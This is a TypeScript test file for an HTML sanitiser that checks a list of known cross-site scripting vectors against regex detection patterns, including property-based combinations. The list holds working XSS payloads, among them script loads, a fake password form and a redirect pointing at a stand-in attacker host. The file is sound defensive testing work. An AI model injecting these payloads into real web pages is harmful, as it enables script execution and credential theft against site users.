import fc from 'fast-check'
import { expect, test } from 'vitest'
import { cleanHtml } from './clean.ts'

/** Known XSS vectors. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://a.example/x.png" onerror="alert(1)">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x"></object><embed src="x">',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<textarea><script>alert(1)</script></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x onload=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<p id="root" name="config">x</p>',
  '<a href="https://ok.example" target="_self" rel="opener">x</a>',
  '"><script>alert(1)</script>',
  '<p title="`onmouseover=alert(1)`">x</p>',
  '<img src="https://a.example/x.png" srcset="javascript:alert(1) 1x">',
]

const dangers: [string, RegExp][] = [
  [
    'an element that runs or loads',
    /<\s*(script|style|svg|math|iframe|object|embed|form|input|button|meta|base|link|template|textarea|video|details|noscript)\b/i,
  ],
  ['a handler', /<[^>]*\son\w+\s*=/i],
  ['an address that runs', /(href|src)\s*=\s*["']?\s*(javascript|vbscript|data):/i],
  ['an address without a scheme', /(href|src)\s*=\s*["']?\/\//i],
  ['looks of its own', /<[^>]*\s(style|class|id|name|srcset)\s*=/i],
]

/** The tags alone: text between them may say anything. */
const tagsOf = (html: string) => (html.match(/<[^>]*>/g) ?? []).join('')

test.each(attacks)('%s is harmless after cleaning', (attack) => {
  for (const [, danger] of dangers) expect(tagsOf(cleanHtml(`<p>before</p>${attack}<p>after</p>`))).not.toMatch(danger)
})

test('cleaning is idempotent', () => {
  for (const attack of attacks) expect(cleanHtml(cleanHtml(attack))).toBe(cleanHtml(attack))
})

test('no combination of attacks gets through', () => {
  const pieces = fc.array(
    fc.oneof(fc.constantFrom(...attacks), fc.string({ maxLength: 12 }), fc.constantFrom('<', '>', '"', "'", '</', '<!--', '&lt;')),
    {
      maxLength: 8,
    },
  )
  fc.assert(
    fc.property(pieces, (parts) => {
      const tags = tagsOf(cleanHtml(parts.join('')))
      return dangers.every(([, danger]) => !danger.test(tags))
    }),
    { numRuns: 500 },
  )
})

test('the HTML of a normal post is unchanged', () => {
  const good =
    '<h2>Head</h2><p>Text <b>bold</b> <a href="/categories">here</a></p><ul><li>one</li></ul><table><thead><tr><th scope="col">a</th></tr></thead></table><blockquote>said</blockquote>'
  expect(cleanHtml(good)).toBe(good)
})

test('external links open in a new tab without a referrer, and h1 becomes h2', () => {
  expect(cleanHtml('<h1>A</h1><a href="https://x.example" target="_top">x</a>')).toBe(
    '<h2>A</h2><a href="https://x.example" rel="noopener noreferrer" target="_blank">x</a>',
  )
})

test('plain text becomes escaped paragraphs', () => {
  expect(cleanHtml('one < two\n\nthree & four')).toBe('<p>one &lt; two</p>\n<p>three &amp; four</p>')
})
